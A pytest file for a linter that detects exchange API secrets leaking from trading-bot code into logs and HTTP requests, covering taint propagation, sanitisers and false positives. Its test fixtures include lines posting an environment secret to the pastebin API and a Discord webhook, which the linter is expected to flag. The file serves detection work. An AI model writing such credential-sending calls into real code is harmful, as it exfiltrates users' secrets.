"""BOT2xx data flow: sources, propagation, sanitisers, sinks and messages."""
from __future__ import annotations

import re

import pytest

from botlint.engine import lint_source

from helpers import settings

HEAD = "import os, logging\nlogger = logging.getLogger(__name__)\nKEY = os.environ['BINANCE_API_SECRET']\n"


def found(src: str, select=("BOT2",)):
    return [(f.line, f.code, f.message) for f in lint_source(src, "bot.py", settings(list(select)))]


@pytest.mark.parametrize("expr", [
    "KEY", "f'{KEY}'", "'%s' % KEY", "'{}'.format(KEY)", "'k=' + KEY", "str(KEY)", "repr(KEY)",
    "[KEY]", "{'k': KEY}", "KEY.strip()", "KEY[:10]", "KEY or 'none'", "(lambda: 1, KEY)[1]",
    "' '.join([KEY, 'x'])", "KEY.encode().hex()",
])
def test_propagation_reaches_log(expr):
    res = found(HEAD + f"logger.info({expr})\n")
    assert [c for _l, c, _m in res] == ["BOT201"], (expr, res)


@pytest.mark.parametrize("expr", [
    "bool(KEY)", "len(KEY)", "KEY is None", "KEY == 'x'", "KEY[:4]", "KEY[-4:]", "KEY[:4] + '****'",
    "mask(KEY)", "redact_secret(KEY)", "hashlib.sha256(KEY.encode()).hexdigest()",
    "hmac.new(KEY.encode(), b'm', 'sha256').hexdigest()", "'set' if KEY else 'unset'", "not KEY",
    "KEY.startswith('x')", "encrypt(KEY)",
])
def test_sanitisers_end_the_flow(expr):
    assert found(HEAD + "import hashlib, hmac\n" + f"logger.info({expr})\n") == []


def test_flow_through_functions_of_the_module():
    src = HEAD + (
        "def fmt(x):\n    return f'<{x}>'\n"
        "def show(v):\n    logger.warning('value %s', v)\n"
        "def get_secret():\n    return os.environ['OKX_SECRET']\n"
        "show(fmt(KEY))\n"
        "print(fmt('harmless'))\n"
        "print(get_secret())\n"
    )
    res = found(src)
    assert [(l, c) for l, c, _m in res] == [(7, "BOT201"), (12, "BOT201")]
    assert "BINANCE_API_SECRET from os.environ (line 3) reaches logger.warning" in res[0][2]


def test_self_attribute_set_in_one_method_used_in_another():
    src = (
        "import os, logging\nlog = logging.getLogger()\n"
        "class Bot:\n"
        "    def run(self):\n        log.info('secret %s', self.secret)\n"
        "    def __init__(self):\n        self.secret = os.getenv('BYBIT_API_SECRET')\n"
    )
    assert [(l, c) for l, c, _m in found(src)] == [(5, "BOT201")]


def test_asset_tokens_and_metadata_names_are_not_credentials():
    src = (
        "import logging\nlog = logging.getLogger()\n"
        "def f(token, base_token, api_key_name, secret_type, password_field, token_address, seed, key):\n"
        "    log.info('%s %s %s %s %s %s %s %s', token, base_token, api_key_name, secret_type, password_field,"
        " token_address, seed, key)\n"
    )
    assert found(src) == []


def test_messages_never_echo_literals():
    fake = "ZmFrZS1ub3QtYS1rZXktMTIzNDU2Nzg5MA"  # pragma: allowlist secret
    src = f"import logging\nlogging.info('key %s', {{'{fake}': 1}}['api_secret'])\nprint(getattr(x, '{fake}'))\n"
    for _l, _c, msg in found(src):
        assert fake not in msg


@pytest.mark.parametrize("url,code", [
    ("https://pastebin.com/api/api_post.php", "BOT205"),
    ("https://api.binance.com/api/v3/order", None),
    ("https://testnet.binance.vision/api/v3/order", None),
    ("http://localhost:8080/collect", None),
    ("https://discord.com/api/webhooks/1/abc", "BOT203"),
])
def test_http_hosts(url, code):
    src = HEAD + f"import requests\nrequests.post('{url}', json={{'s': KEY}})\n"
    res = found(src)
    assert [c for _l, c, _m in res] == ([code] if code else []), res


def test_generic_key_to_its_own_service_is_fine():
    src = ("import os, requests\nAPI_KEY = os.environ['API_KEY']\n"
           "requests.get('https://api.twelvedata.com/price', params={'apikey': API_KEY})\n")
    assert found(src) == []


def test_ccxt_verbose_only_with_credentials():
    src = ("import ccxt, os\npublic = ccxt.binance({'verbose': True})\n"
           "private = ccxt.binance({'apiKey': os.environ['BINANCE_API_KEY']})\nprivate.verbose = False\n")
    assert found(src) == []


def test_precheck_skips_files_without_credential_words():
    from botlint.rules.bot2_leaks import SecretInLogCall

    assert not SecretInLogCall.PRECHECK.search("import logging\nlogging.info('hello %s', name)\n")
    assert SecretInLogCall.PRECHECK.search("x = cfg['exchange']['key']\n")


def test_one_finding_per_sink():
    src = HEAD + "P = os.environ['OKX_PASSPHRASE']\nlogger.info('%s %s %s', KEY, P, KEY)\n"
    res = found(src)
    assert len(res) == 1 and re.search(r"and 1 other credential", res[0][2])
